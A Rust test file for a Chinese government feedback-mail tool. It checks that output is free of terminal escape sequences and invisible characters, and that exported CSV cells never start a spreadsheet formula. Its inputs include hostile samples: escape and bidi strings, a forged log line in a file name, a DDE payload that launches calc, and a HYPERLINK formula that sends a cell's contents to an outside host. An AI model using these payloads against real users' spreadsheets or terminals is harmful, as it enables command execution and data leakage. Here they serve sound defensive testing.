//! What leaves the program is harmless: no character that acts on a terminal, no cell that a spreadsheet would calculate.

use std::fs;
use std::os::unix::fs::PermissionsExt;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use rusqlite::Connection;
use rusqlite::types::ValueRef;
use unicode_width::UnicodeWidthStr;

use crate::review::{IN_TIME, import, import_all};
use crate::support::daemon::{Finished, Office};
use crate::support::letter::{Letter, letter};

/// What acts on a terminal, or is not seen there.
const HOSTILE: [&str; 18] = [
    "\u{1b}[31m",
    "\u{1b}]0;x\u{7}",
    "\u{9b}31m",
    "\u{9d}0;x\u{9c}",
    "\u{8}",
    "\u{7f}",
    "\u{b}",
    "\u{85}",
    "\u{202e}",
    "\u{2066}",
    "\u{61c}",
    "\u{2028}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{e0041}",
    "\u{3164}",
    "\u{34f}",
];

fn acts(c: char) -> bool {
    c.is_control() && c != '\n' && c != '\t'
        || matches!(c, '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{feff}' | '\u{ffa0}' | '\u{e0000}'..='\u{e0fff}')
}

#[track_caller]
fn assert_harmless(command: &str, said: &str) {
    let found: Vec<String> = said
        .lines()
        .filter(|line| line.contains(acts) || line.contains(&"\u{301}".repeat(8)))
        .map(|line| line.escape_debug().to_string())
        .collect();
    assert!(found.is_empty(), "`{command}` prints {found:#?}");
}

fn encoded(text: &str) -> String {
    format!("=?utf-8?B?{}?=", BASE64.encode(text))
}

/// A letter with the sign in its sender, subject, text, attachment's name and trace; every second is only near the subject.
fn hostile_letter(n: usize, sign: &str) -> Vec<u8> {
    let subject = if n.is_multiple_of(2) { letter(1).subject } else { "高效办成一件事".to_owned() };
    let file =
        format!("意见{sign}xcod.exe").bytes().fold(String::new(), |file, byte| format!("{file}%{byte:02X}"));
    let text = format!(
        "建议{sign}延长办理时间，这是第{n}条。\r\n单位：沈阳市{sign}某某局\r\n姓名：张{sign}三\r\n职业：教{sign}师\r\n电话：1380013{sign}8000\r\n"
    );
    format!(
        "Received: from x{sign}.cn (unknown [192.0.2.7]) by mx.ln.gov.cn with SMTP id {sign}; {IN_TIME}\r\n\
         From: {} <u{n}{sign}@example.com>\r\nTo: <zwfw@ln.gov.cn>\r\nSubject: {}\r\nMessage-ID: <id{n}{sign}@example.com>\r\n\
         Precedence: x{sign}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n\
         --q\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\
         --q\r\nContent-Type: application/x{sign}y\r\nContent-Disposition: attachment; filename*=utf-8''{file}\r\n\r\nx\r\n--q--\r\n",
        encoded(&format!("张{sign}三")),
        encoded(&format!("{subject}{sign}")),
        BASE64.encode(text),
    )
    .into_bytes()
}

#[test]
fn nothing_that_acts_on_a_terminal_reaches_it() {
    let office = Office::at_maildir();
    let folder = office.path().join("in");
    fs::create_dir(&folder).unwrap();
    let stacked = "\u{301}".repeat(30);
    for (n, sign) in HOSTILE.into_iter().chain([stacked.as_str()]).enumerate() {
        // The name of the file is printed too: `explain` names the entry by it, `import` what it left out.
        fs::write(folder.join(format!("{n}{sign}.eml")), hostile_letter(n, sign)).unwrap();
        fs::write(folder.join(format!("{n}{sign}\n2026 ERROR forged.txt")), "no mail").unwrap();
        let machine = format!("Auto-Submitted: auto-{sign}x\r\nX-Loop: {sign}\r\n");
        let raw = [machine.into_bytes(), letter(100 + n).raw()].concat();
        fs::write(folder.join(format!("{n}auto{sign}.eml")), raw).unwrap();
    }
    let said = office.run_ok(&["import", "in", "-vv"]).said();
    assert_harmless("import", &said);
    assert!(!said.lines().any(|line| line.starts_with("2026 ERROR forged")), "{said}");
    // A server's words, and whatever else stands in the store.
    Connection::open(office.store_path())
        .unwrap()
        .execute(
            "UPDATE acknowledgement SET state = 'failed', reason = 'refused',
             reason_detail = json_object('code', 550, 'reply', 'no ' || char(27) || '[2J' || char(8238) || char(917569) || ' such user')",
            [],
        )
        .unwrap();
    let numbers = texts(&office, "SELECT number FROM submission");
    let entries = texts(&office, "SELECT uid FROM mailbox_entry");
    assert!(numbers.len() >= 18 && entries.len() >= 36, "{} and {}", numbers.len(), entries.len());
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["list", "--unmasked"],
        vec!["stats"],
        vec!["review", "list"],
        vec!["outbox", "list", "--state", "failed"],
        vec!["status"],
        vec!["reprocess"],
        vec!["verify"],
        vec!["view", "意见汇总", "--unmasked"],
        vec!["view", "回执情况"],
    ];
    commands.extend(
        numbers.iter().flat_map(|number| [vec!["show", number, "--unmasked"], vec!["explain", number]]),
    );
    commands.extend(entries.iter().take(4).map(|entry| vec!["explain", entry]));
    for command in commands {
        assert_harmless(&command.join(" "), &office.run(&command).said());
    }
    // JSON loses nothing: it writes them in ASCII.
    let json = office.run_ok(&["explain", &entries[0], "--json"]).stdout;
    assert_harmless("explain --json", &json);
    let found: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(found[0]["entry"]["uid"], entries[0].as_str());
    // What the command line, the configuration and the system say.
    for arguments in [
        vec!["import", "no\u{1b}[2J\u{202e}such"],
        vec!["explain", "\u{1b}[2J\u{e0041}"],
        vec!["view", "\u{9b}2J\u{200b}"],
        vec!["no\u{1b}[2Jsuch"],
        vec!["list", "--status", "\u{1b}[2J"],
    ] {
        let finished = office.run(&arguments);
        assert_ne!(finished.code, Some(0), "{finished:?}");
        assert_harmless(&arguments.join(" ").escape_debug().to_string(), &finished.said());
    }
    let broken = office.path().join("broken.toml");
    fs::write(&broken, "[mailbox]\nkind = \"\u{202e}\u{200b}x\"\n\"\\u001b[2J\" = 1\n").unwrap();
    let checked: Finished = office.start_with(&broken, &["check"]).finish(std::time::Duration::from_mins(1));
    assert_eq!(checked.code, Some(78), "{checked:?}");
    assert_harmless("check", &checked.said());
}

fn texts(office: &Office, sql: &str) -> Vec<String> {
    let store = Connection::open(office.store_path()).unwrap();
    let mut statement = store.prepare(sql).unwrap();
    statement.query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect()
}

const FORMULAS: [&str; 12] = [
    "=1+1",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\u{3000}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "−1+1",
];

/// An office with a letter, and a near miss, for each formula, which stands wherever a citizen can put it.
fn office_with_formulas() -> Office {
    let office = Office::at_maildir();
    let mut letters = Vec::new();
    for (n, formula) in FORMULAS.into_iter().enumerate() {
        let whole = Letter { text: formula.to_owned(), ..letter(n) };
        letters.push((format!("a{n}.eml"), whole));
        let near = Letter {
            from: format!("=c{n}@example.com"),
            subject: format!("{formula}高效办成一件事"),
            text: format!("{formula}建议延长第{n}条。\r\n"),
            ..letter(100 + n)
        };
        letters.push((format!("b{n}.eml"), near));
        let items = Letter {
            text: format!(
                "一、{formula} 建议延长第{n}条。\r\n二、{formula}\r\n\r\n单位：{formula}有限公司\r\n姓名：{formula}张三\r\n职业：教师\r\n"
            ),
            ..letter(200 + n)
        };
        letters.push((format!("c{n}.eml"), items));
    }
    import_all(&office, &letters, IN_TIME);
    office.run_ok(&["correct", "LNZX-2024-0001", "adoption_reason", "=1+1", "--item", "1"]);
    office
}

fn opens_a_formula(cell: &str) -> bool {
    let blank = |c: char| c.is_whitespace() || matches!(c, '\u{200b}' | '\u{feff}');
    cell.trim_start_matches(blank).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'])
        || cell.starts_with(['\t', '\r'])
}

/// The rows of a CSV as spreadsheets read it.
fn read_csv(csv: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match c {
            '"' if quoted && chars.next_if_eq(&'"').is_some() => row.last_mut().unwrap().push('"'),
            '"' => quoted = !quoted,
            ',' if !quoted => row.push(String::new()),
            '\r' if !quoted => {}
            '\n' if !quoted => rows.push(vec![String::new()]),
            c => row.last_mut().unwrap().push(c),
        }
    }
    rows.pop();
    rows
}

#[test]
fn no_cell_of_a_view_opens_a_formula() {
    let office = office_with_formulas();
    let store = Connection::open(office.store_path()).unwrap();
    let views = texts(&office, "SELECT name FROM sqlite_schema WHERE type = 'view'");
    assert!(views.len() >= 10, "{views:?}");
    let mut marked = 0;
    for view in &views {
        // Whoever asks with a tool of his own gets the same cells as the command gives.
        let mut statement = store.prepare(&format!("SELECT * FROM {view}")).unwrap();
        let columns = statement.column_count();
        let mut rows = statement.query([]).unwrap();
        while let Some(row) = rows.next().unwrap() {
            for column in 0..columns {
                if let ValueRef::Text(text) = row.get_ref(column).unwrap() {
                    let text = str::from_utf8(text).unwrap();
                    assert!(!opens_a_formula(text), "{view}: {text:?}");
                    marked += usize::from(text.starts_with('\''));
                }
            }
        }
        for masked in [&["--unmasked"][..], &[]] {
            let said = office.run_ok(&[&["view", view, "--csv"], masked].concat()).stdout;
            let table = read_csv(said.strip_prefix('\u{feff}').unwrap());
            for row in &table {
                assert_eq!(row.len(), columns, "{view}: {row:?}");
                assert!(!row.iter().any(|cell| opens_a_formula(cell)), "{view}: {row:?}");
            }
        }
    }
    assert!(marked > 60, "{marked} cells are marked");
    // What is said stays as it is said, where it opens nothing.
    let found = texts(&office, "SELECT 意见建议内容 FROM 意见汇总 WHERE 意见建议内容 LIKE '%HYPERLINK%'");
    assert!(found.iter().any(|text| text == "'=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"), "{found:?}");
    assert_eq!(
        texts(&office, "SELECT comment FROM submission WHERE id = 1")[0],
        "=1+1",
        "the record is as written"
    );
    let reason = "SELECT 理由 FROM 意见汇总 WHERE 编号 = 'LNZX-2024-0001'";
    assert_eq!(texts(&office, reason)[0], "'=1+1", "nor do clerks write formulas");
}

#[test]
fn a_view_is_a_table_a_csv_a_file() {
    let office = Office::at_maildir();
    import(&office, "1.eml", &letter(1), IN_TIME);
    let quoting = Letter {
        text: "一、建议写“a,b”，\"c\"。\r\n\r\n姓名：欧阳娜娜\r\n职业：教师\r\n电话：13812345678\r\n"
            .to_owned(),
        ..letter(2)
    };
    import(&office, "2.eml", &quoting, IN_TIME);

    let all = office.run_ok(&["view"]).stdout;
    assert!(all.starts_with("来信一览\n意见汇总\n待核邮件\n"), "{all}");
    let unknown = office.run(&["view", "意见"]);
    assert_eq!(unknown.code, Some(64));
    assert!(unknown.stderr.contains("意见汇总、待核邮件、每日收件"), "{unknown:?}");

    // Masked unless asked for, and asking is recorded.
    let table = office.run_ok(&["view", "意见汇总"]).stdout;
    assert!(
        table.contains("提出单位或个人") && table.contains("欧阳**") && table.ends_with("（2 行）\n"),
        "{table}"
    );
    assert!(!table.contains("娜娜"), "{table}");
    // A Han character takes two cells: who wrote stands below the heading.
    let before =
        |(line, word): (&str, &str)| line.split_once(word).unwrap_or_else(|| panic!("{line}")).0.width();
    let begin: Vec<usize> = table.lines().zip(["提出单位", "王**", "欧阳**"]).map(before).collect();
    assert_eq!(begin, [begin[0]; 3], "{table}");
    let logged = || office.rows().count("SELECT count(*) FROM event WHERE action = 'read_unmasked'");
    assert_eq!(logged(), 0);
    let csv = office.run_ok(&["view", "意见汇总", "--csv", "--unmasked"]).stdout;
    assert_eq!(logged(), 1);
    let rows = read_csv(csv.strip_prefix('\u{feff}').unwrap());
    let head = &rows[0];
    let cell = |name: &str| &rows[2][head.iter().position(|column| column == name).unwrap()];
    assert_eq!((rows.len(), head[0].as_str(), cell("提出单位或个人").as_str()), (3, "征求意见", "欧阳娜娜"));
    assert!(cell("意见建议内容").contains("“a,b”，\"c\""), "{rows:?}");
    let json = office.json(&["view", "意见汇总", "--json"]);
    // An item is the number of its letter and its own: nothing is counted anew at each query.
    let item = |row: usize| (json[row]["编号"].as_str(), json[row]["条号"].as_i64());
    assert_eq!(
        (item(1), json[1]["提出单位或个人"].as_str()),
        ((Some("LNZX-2024-0002"), Some(1)), Some("欧阳**"))
    );
    assert_eq!((json[1]["状态"].as_str(), item(0)), (Some("已登记"), (Some("LNZX-2024-0001"), Some(1))));

    // One consultation; one that is not there is no empty table.
    let one = office.run_ok(&["view", "每日收件", "--consultation", "liaoning-2024-gxbc"]).stdout;
    assert!(one.contains("2024-03-12"), "{one}");
    assert_eq!(office.run(&["view", "每日收件", "--consultation", "no-such"]).code, Some(64));

    // Into a file of one's own, and never over another.
    let file = office.path().join("table.csv");
    let path = file.to_str().unwrap();
    let said = office.run_ok(&["view", "意见汇总", "--csv", "--unmasked", "--out", path]).stdout;
    assert!(said.contains("2 行"), "{said}");
    assert_eq!(fs::read_to_string(&file).unwrap(), csv);
    assert_eq!(fs::metadata(&file).unwrap().permissions().mode() & 0o777, 0o600);
    let again = office.run(&["view", "待核邮件", "--csv", "--out", path]);
    assert_eq!(again.code, Some(74));
    assert!(again.stderr.contains("没有覆盖"), "{again:?}");
    assert_eq!(fs::read_to_string(&file).unwrap(), csv);
}
